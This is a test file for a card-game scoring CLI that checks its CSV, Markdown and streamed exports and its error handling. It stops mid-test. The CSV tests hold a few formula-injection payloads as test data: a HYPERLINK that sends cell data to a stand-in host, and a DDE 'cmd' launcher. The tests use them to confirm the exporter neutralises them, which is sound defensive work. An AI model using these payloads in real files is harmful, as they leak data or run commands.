import { describe, expect, test, beforeAll } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvSheet, eveningsCsv, eveningsCsvPieces, sheetCsv, toCsv } from '../../src/evening/csv.js';
import { eveningOf, eveningsOf, isEveningDate, type LoadedSheet } from '../../src/evening/evening.js';
import { settleEvening, type Settle } from '../../src/evening/settle.js';
import { eveningsMarkdown, mdEscape, sheetOnlyMarkdown } from '../../src/evening/markdown.js';
import { sheet, vrijdagA, vrijdagB, vrijdagZwikken } from './fixtures.js';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { Writable } from 'node:stream';
import { BIN, snapshot, tafel, tafelJson, tempHomes } from '../helpers/cli.js';
import { maybe, Terminal } from '../play/terminal.js';

// Hand-worked totals: see fixtures.ts. Evening: Ann -15 + 5 = -10, Bert 20 - 11 = 9, Cis 10 + 1 = 11,
// Dirk 20 (sheet A only), Eva 5 (sheet B only).
const SHEET_A_CSV = `sheet,title,game,rules,evening
2026-11-27-kleurenwiezen,Vrijdag,kleurenwiezen,lodige,2026-11-27
deal,dealer,contract,Ann,Bert,Cis,Dirk
1,Ann,Bert + Dirk samen 8: 9 tricks,0,10,0,10
2,Bert,Ann solo 6: 5 tricks,-15,10,10,10
total,,,-15,20,10,20
next dealer,Cis
`;

const SHEET_B_CSV = `sheet,title,game,rules,evening
2026-11-27-kleurenwiezen-2,,kleurenwiezen,cardgames,2026-11-27
deal,dealer,contract,Ann,Bert,Cis,Eva
1,Ann,Ann + Eva vragen: 9 tricks,2,-2,-2,2
2,Bert,Bert alleen: 4 tricks,3,-9,3,3
total,,,5,-11,1,5
next dealer,Cis
`;

describe('CSV', () => {
  test('one sheet: a row per deal, the totals row, who deals next', () => {
    expect(sheetCsv(vrijdagA(), 'en')).toBe(SHEET_A_CSV);
  });

  test("an evening: each sheet in playing order, then each player's totals per game", () => {
    // Given out of order: the evening sorts by start time.
    const text = eveningsCsv(eveningsOf([vrijdagB(), vrijdagA()]), 'en');
    expect(text).toBe(`${SHEET_A_CSV}
${SHEET_B_CSV}
totals per game,2026-11-27
player,kleurenwiezen (points)
Ann,-10
Bert,9
Cis,11
Dirk,20
Eva,5
`);
  });

  test('Zwikken money stays apart from points, to the cent, with the pot column', () => {
    // Totals from fixtures.ts (spec/zwikken.md example); Eva played no Zwikken: empty cell.
    const text = eveningsCsv(eveningsOf([vrijdagA(), vrijdagB(), vrijdagZwikken()]), 'en');
    expect(text).toBe(`${SHEET_A_CSV}
${SHEET_B_CSV}
sheet,title,game,rules,evening,stake
2026-11-27-zwikken,Pot,zwikken,standard,2026-11-27,0.10
deal,dealer,contract,Ann,Bert,Cis,Dirk,pot
1,Ann,"Ann, Bert asked; Ann won",0.30,-0.50,-0.10,-0.10,0.40
2,Bert,Cis asked; Dirk won but had passed,0.00,0.00,-0.40,0.00,0.80
3,Cis,"all passed, searched once",-0.10,-0.10,-0.10,-0.10,1.20
total,,,0.20,-0.60,-0.60,-0.20,1.20
next dealer,Dirk

totals per game,2026-11-27
player,kleurenwiezen (points),zwikken (money)
Ann,-10,0.20
Bert,9,-0.60
Cis,11,-0.60
Dirk,20,-0.20
Eva,5,
`);
  });

  test('labels follow the language', () => {
    expect(sheetCsv(vrijdagA(), 'nl').split('\n').slice(0, 3)).toEqual([
      'blad,titel,spel,regels,avond',
      '2026-11-27-kleurenwiezen,Vrijdag,kleurenwiezen,lodige,2026-11-27',
      'gift,gever,contract,Ann,Bert,Cis,Dirk',
    ]);
  });

  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", '-1', '@x', '-2+3'];
  test.each(hostile)('a title %j comes back as text behind a quote, never as a formula', (title) => {
    const s = sheet(
      'kleurenwiezen',
      ["O'Brien", 'Jean-Pierre', 'a_b c', '3.14'],
      ["samen 8 --by O'Brien,Jean-Pierre --tricks 7", 'solo 6 --by 3.14 --tricks 8'],
      {
        id: 'x-1',
        title,
        createdAt: '2026-11-27T12:00:00.000Z',
      },
    );
    const text = sheetCsv(s, 'en');
    const rows = parse(text, { relax_column_count: true }) as string[][];
    expect(rows[1][1]).toBe(`'${title}`);
    // A name a spreadsheet reads as a number keeps a quote before it; the others stay as they are.
    expect(rows[2]).toEqual(['deal', 'dealer', 'contract', "O'Brien", 'Jean-Pierre', 'a_b c', "'3.14"]);
    // samen 8 with 7 tricks: base 7 + 3*1 = 10 lost by each declarer, gained by each opponent.
    // solo 6 with 8 tricks: 12 + 3*2 = 18 for the declarer. Totals: -10, -10, 10, 28.
    expect(text).toContain('\ntotal,,,-10,-10,10,28\n');
    const typed = parse(text, { relax_column_count: true, cast: true }) as unknown[][];
    expect(typed[5]).toEqual(['total', '', '', -10, -10, 10, 28]);
    // Every cell is a plain number or text that a spreadsheet will not evaluate.
    for (const row of rows)
      for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test("escaping is the library's: tab and carriage return too, numbers untouched, quotes doubled", () => {
    const text = toCsv([['\tx', '\rx', 'a,b', 'say "hi"', -3, { cents: -5 }, null]]);
    expect(text).toBe(`'\tx,"'\rx","a,b","say ""hi""",-3,-0.05,\n`);
  });
});

test('CSV: a name or title a spreadsheet would read as a time or a truth value keeps a quote too', async () => {
  const h = home();
  const players = ['12 PM', 'TRUE', 'onwaar', 'Pam 2'];
  const id = (await tafelJson(h, ['new', 'kleurenwiezen', '--players', players.join(','), '--title', '12:30 am'])).id;
  expect((await tafel(h, ['record', 'pas'])).code).toBe(0);
  // Until 2026-12-07 only numbers and dates were: Excel took 12 PM for noon and TRUE for a truth value.
  const csv = (await tafel(h, ['export', '--format', 'csv'])).stdout.split('\n');
  expect(csv.slice(1, 4)).toEqual([
    `${id},'12:30 am,kleurenwiezen,lodige,${id.slice(0, 10)}`,
    "deal,dealer,contract,'12 PM,'TRUE,'onwaar,Pam 2",
    "1,'12 PM,pass (redeal),0,0,0,0",
  ]);
  // The Dutch truth values and a time without a space, in a Dutch Excel's CSV as well.
  expect((await tafel(h, ['rename', 'Pam 2', 'Waar'])).code).toBe(0);
  expect((await tafel(h, ['rename', 'onwaar', '7pm'])).code).toBe(0);
  const excel = (await tafel(h, ['export', '--format', 'csv', '--excel', 'nl'])).stdout.split('\r\n');
  expect(excel[2]).toBe("deal;dealer;contract;'12 PM;'TRUE;'7pm;'Waar");
});

test('CSV: a title a spreadsheet would read as an error value (#N/A, a Dutch #N/B) keeps a quote too', async () => {
  const h = home();
  // Until 2026-12-07 they went in as they are, and a spreadsheet showed an error where the title was.
  for (const [title, cell] of [
    ['#N/A', "'#N/A"],
    ['#div/0!', "'#div/0!"],
    ['#NAME?', "'#NAME?"],
    ['#N/B', "'#N/B"],
    ['#WAARDE!', "'#WAARDE!"],
    ['#1 tafel', '#1 tafel'],
  ]) {
    const id = (await tafelJson(h, ['new', 'kleurenwiezen', '--players', 'Ann,Bert,Cis,Dirk', '--title', title])).id;
    const csv = (await tafel(h, ['export', id, '--format', 'csv'])).stdout.split('\n');
    expect(csv[1]).toBe(`${id},${cell},kleurenwiezen,lodige,${id.slice(0, 10)}`);
    const excel = (await tafel(h, ['export', id, '--format', 'csv', '--excel', 'nl'])).stdout.split('\r\n');
    expect(excel[1]).toBe(`${id};${cell};kleurenwiezen;lodige;${id.slice(0, 10)}`);
  }
});

test('CSV: a title or name a spreadsheet would read as a number or a date keeps a quote; JSON as typed', async () => {
  const h = home();
  const run = async (...a: string[]) => {
    const r = await tafel(h, a);
    expect([r.code, r.stderr]).toEqual([0, '']);
    return r.stdout;
  };
  const id = JSON.parse(
    await run('new', 'kleurenwiezen', '--players', 'Ann,Bert,Cis,Dirk', '--title', '1/2', '--json'),
  ).id;
  await run('rename', 'Bert', '007');
  await run('rename', 'Cis', '5 dec');
  // As sheet A of fixtures.ts: Ann -15, 007 20, 5 dec 10, Dirk 20. At 0.05 a point against the average 8.75: -1.1875,
  // 0.5625, 0.0625 and 0.5625, whole cents -119, 56, 6 and 56 with the missing cent to the first seat: -1.18.
  // Ann pays the two largest creditors (007 before Dirk by name), then 5 dec.
  await run('record', 'samen', '8', '--by', '007,Dirk', '--tricks', '9');
  await run('record', 'solo', '6', '--by', 'Ann', '--tricks', '5');
  const day = id.slice(0, 10);
  const sheetCsv = `sheet,title,game,rules,evening
${id},'1/2,kleurenwiezen,lodige,${day}
deal,dealer,contract,Ann,'007,'5 dec,Dirk
1,Ann,007 + Dirk samen 8: 9 tricks,0,10,0,10
2,'007,Ann solo 6: 5 tricks,-15,10,10,10
total,,,-15,20,10,20
next dealer,'5 dec
`;
  expect(await run('export', '--evening', 'today', '--format', 'csv', '--rate', 'kleurenwiezen=0.05')).toBe(
    `${sheetCsv}
totals per game,${day}
player,kleurenwiezen (points)
Ann,-15
'007,20
'5 dec,10
Dirk,20

settlement,${day}
sheet,how it counts
${id},0.05 per point

player,balance
Ann,-1.18
'007,0.56
'5 dec,0.06
Dirk,0.56

pays,to,amount
Ann,'007,0.56
Ann,Dirk,0.56
Ann,'5 dec,0.06
`,
  );
  // One sheet with a rate named ends with that sheet's settlement too, as its HTML page does (until 2026-12-06 the
  // rate was checked and left unused); a JSON export holds no settlement, so a rate there is refused.
  expect(await run('export', id, '--format', 'csv', '--rate', 'kleurenwiezen=0.05')).toContain(
    `settlement,${day}\nsheet,how it counts\n${id},0.05 per point\n\nplayer,balance\nAnn,-1.18\n`,
  );
  const before = snapshot(h);
  for (const [lang, line] of [
    ['en', "A JSON export holds the sheets, not a settlement: leave out --rate and --preset, or use 'tafel settle"],
    ['nl', "Een JSON-export bevat de bladen, geen afrekening: laat --rate en --preset weg, of gebruik 'tafel settle"],
  ]) {
    const refused = await tafel(h, ['export', '--format', 'json', '--rate', 'kleurenwiezen=0.05', '--lang', lang]);
    expect([refused.code, refused.stdout, refused.stderr]).toEqual([
      2,
      '',
      `tafel: ${line} --json' ${lang === 'en' ? 'with them' : 'ermee'}.\n`,
    ]);
  }
  expect(snapshot(h)).toEqual(before);
  expect((await run('export', '--format', 'csv', '--excel', 'nl')).split('\r\n')[1]).toBe(
    `${id};'1/2;kleurenwiezen;lodige;${day}`,
  );
  // The whole store twice: the second export takes the sheet from the first one's index, quotes and all.
  const out = path.join(home(), 'all.csv');
  for (const force of [[], ['--force']]) {
    await run('export', '--all', '--format', 'csv', '--out', out, ...force);
    expect(fs.readFileSync(out, 'utf8')).toContain(sheetCsv);
    expect(fs.existsSync(path.join(h, 'index-csv-en.json'))).toBe(true);
  }
  const backup = JSON.parse(await run('export', '--format', 'json'));
  expect([backup.sheets[0].sheet.title, backup.sheets[0].sheet.players]).toEqual([
    '1/2',
    ['Ann', '007', '5 dec', 'Dirk'],
  ]);
});

test('export --all streamed sheet by sheet writes the whole document; an evening with no sheet is left out', () => {
  const saturday = sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], ['solo 6 --by Ann --tricks 5'], {
    id: '2026-11-29-kleurenwiezen',
    createdAt: '2026-11-29T12:00:00.000Z',
  });
  const friday = [vrijdagA(), vrijdagB(), vrijdagZwikken()];
  const settle: Settle = (e) => settleEvening(e.sheets, { kleurenwiezen: 500 });
  for (const dialect of ['plain', 'excel-nl'] as const) {
    const events: string[] = [];
    // Each sheet is produced only when the writer asks for it: it is read and replayed at that moment.
    function* produce(list: LoadedSheet[]) {
      for (const s of list) {
        events.push(`read ${s.data.id}`);
        yield csvSheet(s, 'en', dialect);
      }
    }
    const streamed = [
      { date: '2026-11-27', sheets: produce(friday) },
      { date: '2026-11-28', sheets: produce([]) }, // every sheet of it unreadable
      { date: '2026-11-29', sheets: produce([saturday]) },
    ];
    let text = '';
    for (const t of eveningsCsvPieces(streamed, 'en', settle, dialect)) {
      events.push('write');
      text += t;
    }
    expect(text).toBe(eveningsCsv(eveningsOf([...friday, saturday]), 'en', settle, dialect));
    // A sheet is written before the next is read; each evening's totals and settlement after its sheets.
    expect(events).toEqual([
      'read 2026-11-27-kleurenwiezen',
      'write',
      'read 2026-11-27-kleurenwiezen-2',
      'write',
      'read 2026-11-27-zwikken',
      'write',
      'write',
      'read 2026-11-29-kleurenwiezen',
      'write',
      'write',
    ]);
  }
});

describe('Markdown', () => {
  test('one sheet: a padded pipe table with signed amounts, and who deals next', () => {
    expect(sheetOnlyMarkdown(vrijdagA(), 'en')).toBe(`### Vrijdag
kleurenwiezen (lodige), evening 2026-11-27, sheet 2026-11-27-kleurenwiezen

| deal  | dealer | contract                      | Ann | Bert | Cis | Dirk |
|-------|--------|-------------------------------|----:|-----:|----:|-----:|
| 1     | Ann    | Bert + Dirk samen 8: 9 tricks |   0 |  +10 |   0 |  +10 |
| 2     | Bert   | Ann solo 6: 5 tricks          | -15 |  +10 | +10 |  +10 |
| total |        |                               | -15 |  +20 | +10 |  +20 |

Next dealer: Cis
`);
  });

  test('an evening: a heading, each sheet, the totals per game', () => {
    expect(eveningsMarkdown(eveningsOf([vrijdagA(), vrijdagB()]), 'en')).toBe(`## Evening of 2026-11-27

### Vrijdag
kleurenwiezen (lodige), evening 2026-11-27, sheet 2026-11-27-kleurenwiezen

| deal  | dealer | contract                      | Ann | Bert | Cis | Dirk |
|-------|--------|-------------------------------|----:|-----:|----:|-----:|
| 1     | Ann    | Bert + Dirk samen 8: 9 tricks |   0 |  +10 |   0 |  +10 |
| 2     | Bert   | Ann solo 6: 5 tricks          | -15 |  +10 | +10 |  +10 |
| total |        |                               | -15 |  +20 | +10 |  +20 |

Next dealer: Cis

### 2026-11-27-kleurenwiezen-2
kleurenwiezen (cardgames), evening 2026-11-27

| deal  | dealer | contract                   | Ann | Bert | Cis | Eva |
|-------|--------|----------------------------|----:|-----:|----:|----:|
| 1     | Ann    | Ann + Eva vragen: 9 tricks |  +2 |   -2 |  -2 |  +2 |
| 2     | Bert   | Bert alleen: 4 tricks      |  +3 |   -9 |  +3 |  +3 |
| total |        |                            |  +5 |  -11 |  +1 |  +5 |

Next dealer: Cis

### Totals per game

| player | kleurenwiezen (points) |
|--------|-----------------------:|
| Ann    |                    -10 |
| Bert   |                     +9 |
| Cis    |                    +11 |
| Dirk   |                    +20 |
| Eva    |                     +5 |
`);
  });

  test('money in Markdown: two decimals, signed; the pot unsigned, as on the sheet', () => {
    const md = sheetOnlyMarkdown(vrijdagZwikken(), 'en');
    expect(md).toContain(
      '| 1     | Ann    | Ann, Bert asked; Ann won           | +0.30 | -0.50 | -0.10 | -0.10 | 0.40 |',
    );
    expect(md).toContain(
      '| total |        |                                    | +0.20 | -0.60 | -0.60 | -0.20 | 1.20 |',
    );
  });

  test.each([
    ['a | b', 'a \\| b'],
    ['*bold* _it_', '\\*bold\\* \\_it\\_'],
    ['# kop', '\\# kop'],
    ['<script>', '\\<script\\>'],
    ['[x](http://y)', '\\[x\\](http://y)'],
    // An entity would be decoded (`&amp;` shows as `&`): its `&` escaped; a plain `&` stays as typed.
    ['<b>&amp;"\'', '\\<b\\>\\&amp;"\''],
    ['&#60;x&#x3C; | A & B', '\\&\\#60;x\\&\\#x3C; \\| A & B'],
  ])('a title %j cannot break the table or turn into markup', (title, escaped) => {
    expect(mdEscape(title)).toBe(escaped);
    const md = sheetOnlyMarkdown(
      sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
        id: 'x-1',
        title,
        createdAt: '2026-11-27T12:00:00.000Z',
      }),
      'en',
    );
    expect(md.split('\n')[0]).toBe(`### ${escaped}`);
  });
});

describe('evenings', () => {
  test.each([
    ['2026-11-29', true],
    ['2026-02-29', false],
    ['2028-02-29', true],
    ['2026-13-01', false],
    ['29-11-2026', false],
    ['2026-11-29x', false],
  ])('%s is a date: %s', (text, ok) => {
    expect(isEveningDate(text)).toBe(ok);
  });

  test('a sheet belongs to the evening it was started on, which runs until 06:00', () => {
    const at = (day: number, hour: number, minute: number) =>
      eveningOf(new Date(2026, 10, day, hour, minute).toISOString());
    // Local times: the evening of Sunday 29 November goes on past midnight, until Monday 06:00.
    expect([at(29, 5, 59), at(29, 6, 0), at(29, 23, 59), at(30, 0, 5), at(30, 5, 59), at(30, 6, 0)]).toEqual([
      '2026-11-28',
      '2026-11-29',
      '2026-11-29',
      '2026-11-29',
      '2026-11-29',
      '2026-11-30',
    ]);
    // Across a month's and a year's end.
    expect(eveningOf(new Date(2027, 0, 1, 1, 30).toISOString())).toBe('2026-12-31');
    expect(eveningOf(new Date(2026, 11, 1, 2, 0).toISOString())).toBe('2026-11-30');
  });

  test('evenings come oldest first, sheets in playing order', () => {
    const late = sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
      id: 'late',
      createdAt: '2026-12-04T12:00:00.000Z',
    });
    const groups = eveningsOf([late, vrijdagB(), vrijdagA()]);
    expect(groups.map((e) => [e.date, e.sheets.map((s) => s.data.id)])).toEqual([
      ['2026-11-27', ['2026-11-27-kleurenwiezen', '2026-11-27-kleurenwiezen-2']],
      ['2026-12-04', ['late']],
    ]);
  });
});

/**
 * Issue 21.3 and 27.13: `tafel export` to standard output is byte for byte what `--out` writes, in
 * every format (in process, standard output no terminal), redirected to a real file (its fd written with
 * writeSync, for each kind of writer: a whole document, the streamed --all) and through a pipe (a process);
 * a full standard output or error (/dev/full) is a refusal, never an internal error.
 */
const home = tempHomes();
const env = (h: string): NodeJS.ProcessEnv => {
  const e: NodeJS.ProcessEnv = { ...process.env, TAFEL_HOME: h, LANG: 'C' };
  delete e.NO_COLOR;
  delete e.FORCE_COLOR;
  delete e.DEBUG;
  return e;
};

/**
 * tafel with standard output redirected to `file` (a real file, as `> file` in a shell): the bundle in process, given
 * the file's fd as its standard output, which it writes with writeSync as the binary writes a redirected stream.
 */
async function toFile(h: string, args: string[], file: string): Promise<number> {
  const fd = fs.openSync(file, 'w');
  try {
    return (await tafel(h, args, { stdoutFd: fd })).code;
  } finally {
    fs.closeSync(fd);
  }
}

/** tafel with standard output a pipe: the bytes as they came. */
const piped = (h: string, args: string[]): Buffer =>
  spawnSync(process.execPath, [BIN, ...args], { env: env(h), stdio: ['ignore', 'pipe', 'pipe'], timeout: 20000 })
    .stdout;

// The moment of the export is the one thing two runs cannot share.
const sameMoment = (b: Buffer): string => b.toString('latin1').replace(/"exportedAt": "[^"]*"/, '"exportedAt": "…"');

/** An evening of two sheets, made in process (test/helpers/cli.ts); the exports to a file or a pipe are processes. */
async function evening(): Promise<string> {
  const h = home();
  const run = async (...a: string[]) => expect((await tafel(h, a)).code).toBe(0);
  await run('new', 'kleurenwiezen', '--rules', 'whisthub', '--players', 'Ann,Bert,Cis,Dirk,Eva', '--title', 'Café');
  await run('record', 'pas');
  await run('record', 'abondance', '9', '--by', 'Bert', '--tricks', '9');
  await run('new', 'klaverjassen', '--players', 'Ann,Bert,Cis,Dirk');
  await run('record', '--taker', 'Ann', '--points', '70');
  await run('record', '--taker', 'Bert', '--points', '162', '--pit', 'takers');
  return h;
}

describe('export to standard output is what --out writes (21.3)', () => {
  let h: string;
  beforeAll(async () => {
    h = await evening();
  });
  // Every format for one sheet; an evening and --all (the streamed writers) in the formats they have.
  const cases = [
    'csv',
    'csv --excel nl',
    'json',
    'md',
    'html',
    'csv --excel nl --evening today',
    'json --evening today',
    'md --evening today',
    'html --evening today',
    'csv --all',
    'csv --excel nl --all',
    'json --all',
    'md --all',
  ].map((c) => [c]);

  // Standard output not a terminal, in process: every format is what --out writes. Each writer's kind (a whole
  // document, the streamed --all) is also redirected to a real file by a process; through a pipe in the next test.
  const redirected = new Set(['html', 'json --all', 'csv --excel nl --all']);
  test.each(cases)('export --format %s', async (args) => {
    const a = ['export', '--format', ...args.split(' ')];
    const dir = home();
    expect((await tafel(h, [...a, '--out', path.join(dir, 'out.x')])).code).toBe(0);
    const written = fs.readFileSync(path.join(dir, 'out.x'));
    const same = (out: Buffer) =>
      args.startsWith('json')
        ? expect(sameMoment(out)).toBe(sameMoment(written))
        : expect(out.equals(written)).toBe(true);
    const r = await tafel(h, a);
    expect(r.code).toBe(0);
    same(Buffer.from(r.stdout, 'utf8'));
    if (!redirected.has(args)) return;
    expect(await toFile(h, a, path.join(dir, 'redirected.x'))).toBe(0);
    same(fs.readFileSync(path.join(dir, 'redirected.x')));
  });

  test('a Dutch Excel CSV through a pipe: the byte-order mark, CR LF, the same bytes as --out', async () => {
    const b = piped(h, ['export', '--format', 'csv', '--excel', 'nl']);
    const file = path.join(home(), 'out.csv');
    expect((await tafel(h, ['export', '--format', 'csv', '--excel', 'nl', '--out', file])).code).toBe(0);
    expect(b.equals(fs.readFileSync(file))).toBe(true);
    expect([...b.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(b.toString('utf8')).not.toMatch(/\\u\{feff\}|\\x0d/);
    expect(b.toString('utf8').split('\r\n').length).toBeGreaterThan(5);
  });

  test('export --all waits for a slow reader, holding a piece, not the document; one gone ends it (0)', async () => {
    // The evening's two sheets, copied to 24 (a piece of the document is a sheet, or a line of the CSV).
    const many = home();
    fs.cpSync(h, many, { recursive: true });
    const dir = path.join(many, 'sheets');
    for (const f of fs.readdirSync(dir)) {
      const sheet = JSON.parse(fs.readFileSync(path.join(dir, f), 'utf8'));
      for (let i = 2; i <= 12; i++)
        fs.writeFileSync(
          path.join(dir, `${sheet.id}-x${i}.json`),
          JSON.stringify({ ...sheet, id: `${sheet.id}-x${i}` }),
        );
    }
    for (const format of ['json', 'csv']) {
      const a = ['export', '--all', '--format', format];
      const file = path.join(home(), `all.${format}`);
      expect((await tafel(many, [...a, '--out', file])).code).toBe(0);
      // A reader that wants a byte at a time and takes each write a moment later: every write waits for it.
      const chunks: Buffer[] = [];
      let most = 0;
      const slow = new Writable({
        highWaterMark: 1,
        write(chunk: Buffer, _enc, done) {
          chunks.push(chunk);
          most = Math.max(most, this.writableLength);
          setImmediate(done);
        },
      });
      expect(await tafel(many, a, { stdout: slow })).toEqual({ code: 0, stdout: '', stderr: '' });
      const whole = Buffer.concat(chunks);
      expect(sameMoment(whole)).toBe(sameMoment(fs.readFileSync(file)));
      // What waited in the stream at any time: the write at hand alone (before, the whole document but its first).
      expect(most).toBe(Math.max(...chunks.map((c) => c.length)));
      expect(most * 4).toBeLessThan(whole.length);
      // A reader that goes away after two writes: the export ends there, quietly, as on a real pipe.
      let writes = 0;
      const gone = new Writable({
        highWaterMark: 1,
        write(_chunk, _enc, done) {
          writes++;
          setImmediate(() => done(writes > 2 ? Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }) : null));
        },
      });
      expect(await tafel(many, a, { stdout: gone })).toEqual({ code: 0, stdout: '', stderr: '' });
      expect(writes).toBe(3);
    }
  });
});

describe('a full device (27.13)', () => {
  let h: string;
  beforeAll(async () => {
    h = await evening();
  });
  /** A run with standard output or error redirected to /dev/full (its fd given to the bundle, in process). */
  const full = async (args: string[], which: 'stdout' | 'stderr') => {
    const fd = fs.openSync('/dev/full', 'w');
    try {
      const r = await tafel(h, args, which === 'stdout' ? { stdoutFd: fd } : { stderrFd: fd });
      return { code: r.code, stderr: which === 'stdout' ? r.stderr : '' };
    } finally {
      fs.closeSync(fd);
    }
  };
  const onFull = fs.existsSync('/dev/full') ? test : test.skip;

  onFull('standard output on a full device: one line saying so, exit 1, in English and Dutch', async () => {
    for (const args of [['sheet'], ['export', '--format', 'csv'], ['export', '--all', '--format', 'csv']]) {
      const en = await full(args, 'stdout');
      expect(en.code).toBe(1);
      expect(en.stderr.split('\n').slice(-2)).toEqual([
        'tafel: Cannot write to standard output (ENOSPC): the file or device it goes to is full or failing, so ' +
          'the output is incomplete. Free some space, or write elsewhere (export: --out <file>).',
        '',
      ]);
      expect(en.stderr).not.toMatch(/internal|bug/);
    }
    const nl = await full(['sheet', '--lang', 'nl'], 'stdout');
    expect(nl.code).toBe(1);
    expect(nl.stderr).toMatch(/^tafel: Kan niet naar de standaarduitvoer schrijven \(ENOSPC\)/);
    expect(nl.stderr).not.toMatch(/internal|bug/);
  });

  onFull(
    "standard error on a full device: exit 1 when a warning is lost, the refusal's own code when an error is",
    async () => {
      // A note goes to stderr: the export of the active sheet says the evening has two sheets.
      expect((await full(['export', '--format', 'csv'], 'stderr')).code).toBe(1);
      expect((await full(['nosuch'], 'stderr')).code).toBe(2);
      expect((await full(['sheet', 'no-such-sheet'], 'stderr')).code).toBe(1);
      // Nothing for stderr: nothing lost.
      expect((await full(['sheet'], 'stderr')).code).toBe(0);
    },
  );
});

describe('--out on a full disk', () => {
  // Until 2026-12-07 "Cannot write <file> (ENOSPC): check that the folder exists and is writable": it is there and
  // writable, only full. The system's refusal is made here: writes to a file (standard output is a stream in process).
  const refusing = async (code: string, run: () => Promise<unknown>) => {
    const saved = { writeSync: fs.writeSync, writeFileSync: fs.writeFileSync };
    const refuse = () => {
      throw Object.assign(new Error(`${code}: write`), { code, syscall: 'write' });
    };
    Object.assign(fs, {
      writeSync: (fd: number, ...rest: unknown[]) =>
        fd > 2 ? refuse() : (saved.writeSync as (...a: unknown[]) => number)(fd, ...rest),
      writeFileSync: (file: unknown, ...rest: unknown[]) =>
        String(file).endsWith('.tmp') ? refuse() : (saved.writeFileSync as (...a: unknown[]) => void)(file, ...rest),
    });
    try {
      return await run();
    } finally {
      Object.assign(fs, saved);
    }
  };

  test('says the disk is full, in English and Dutch; nothing is left, a file replaced is as it was', async () => {
    const h = await evening();
    const dir = home();
    const out = path.join(dir, 'backup.json');
    fs.writeFileSync(out, 'mine');
    const runs = [
      // export --all writes piece by piece (writeSync), one sheet's export at once (writeFileSync).
      [['export', '--all', '--format', 'json', '--out', out, '--force'], 'ENOSPC', 'en'],
      [['export', '--format', 'json', '--out', out, '--force', '--lang', 'nl'], 'ENOSPC', 'nl'],
      [['export', '--all', '--format', 'json', '--out', out, '--force', '--lang', 'nl'], 'EDQUOT', 'nl'],
      [['export', '--format', 'json', '--out', out, '--force'], 'EROFS', 'en'],
    ] as const;
    const said = runs.map(() => '');
    for (const [i, [args, code]] of runs.entries()) {
      const r = (await refusing(code, () => tafel(h, [...args]))) as { code: number; stdout: string; stderr: string };
      expect([r.code, r.stdout]).toEqual([1, '']);
      said[i] = r.stderr;
      expect([fs.readdirSync(dir), fs.readFileSync(out, 'utf8')]).toEqual([['backup.json'], 'mine']);
    }
    expect(said).toEqual([
      `tafel: Cannot write ${out} (ENOSPC): the disk is full. Nothing was written: free some space, or give --out a ` +
        'file on another disk.\n',
      `tafel: Kan ${out} niet schrijven (ENOSPC): de schijf is vol. Er werd niets geschreven: maak ruimte vrij, of ` +
        'geef --out een bestand op een andere schijf.\n',
      `tafel: Kan ${out} niet schrijven (EDQUOT): het schijfquotum is op. Er werd niets geschreven: maak ruimte ` +
        'vrij, of geef --out een bestand op een andere schijf.\n',
      `tafel: Cannot write ${out} (EROFS): the disk is read-only. Nothing was written: give --out a file on another ` +
        'disk.\n',
    ]);
  });
});

describe('--format and the --out extension (21.10)', () => {
  let h: string;
  // The files written, beside the data directory (--out refuses a file in it).
  const d = home();
  beforeAll(async () => {
    h = await evening();
  });

  test('a clash is refused (exit 2), naming both, in English and Dutch, and nothing is written', async () => {
    const out = path.join(d, 'x.csv');
    const r = await tafel(h, ['export', '--format', 'md', '--out', out]);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(
      `tafel: --format md and --out ${out} disagree: x.csv would hold Markdown, not CSV. Give --out x.md, or ` +
        `--format csv, or leave out --format (the extension decides).\n`,
    );
    expect(fs.existsSync(out)).toBe(false);
    const nl = await tafel(h, ['export', '--format', 'html', '--out', path.join(d, 'x.json'), '--lang', 'nl']);
    expect(nl.code).toBe(2);
    expect(nl.stderr).toMatch(
      new RegExp(
        /^tafel: --format html en --out .*x\.json spreken elkaar tegen: /.source +
          /x\.json zou HTML bevatten, geen JSON\. Geef --out x\.html, of --format json/.source,
      ),
    );
    expect(fs.existsSync(path.join(d, 'x.json'))).toBe(false);
  });

  test('--out naming a folder is refused, with or without --force: the name of a file is asked', async () => {
    const folder = path.join(d, 'avond');
    fs.mkdirSync(folder);
    const before = snapshot(d);
    for (const args of [
      ['export', '--out', folder],
      ['export', '--out', folder, '--force'],
      ['export', '--all', '--format', 'csv', '--out', folder, '--force'],
    ]) {
      const r = await tafel(h, args);
      expect([args.join(' '), r.code, r.stderr]).toEqual([
        args.join(' '),
        1,
        `tafel: ${folder} is a folder: give --out the name of a file, in that folder or elsewhere (--force replaces ` +
          'a file, never a folder).\n',
      ]);
    }
    const nl = await tafel(h, ['export', '--out', folder, '--force', '--lang', 'nl']);
    expect(nl.stderr).toBe(
      `tafel: ${folder} is een map: geef --out de naam van een bestand, in die map of elders (--force vervangt een ` +
        'bestand, nooit een map).\n',
    );
    expect(snapshot(d)).toEqual(before);
    fs.rmdirSync(folder);
  });

  test('--out naming a FIFO or a link is refused, with --force too: only a plain file is replaced', async () => {
    // In a folder of their own: snapshot() would read the FIFO. A FIFO stands for a device (/dev/full).
    const dir = home();
    const fifo = path.join(dir, 'pipe.csv');
    spawnSync('mkfifo', [fifo]);
    const link = path.join(dir, 'link.csv');
    fs.symlinkSync(path.join(dir, 'target.csv'), link);
    expect(
      (await tafel(h, ['event', 'new', 'klaverjassen', '--id', 'kv', '--entrants', 'Ann,Bert,Cis,Dirk'])).code,
    ).toBe(0);
    expect((await tafel(h, ['season', 'new', 'vc', '--game', 'klaverjassen', '--nights', '3'])).code).toBe(0);
    const before = snapshot(d);
    for (const out of [fifo, link])
      for (const args of [
        ['export', '--out', out, '--force'],
        ['export', '--out', out],
        ['export', '--all', '--out', out, '--force'],
        ['event', 'export', '--format', 'csv', '--out', out, '--force'],
        ['season', 'export', 'vc', '--format', 'csv', '--out', out, '--force'],
      ]) {
        const r = await tafel(h, args);
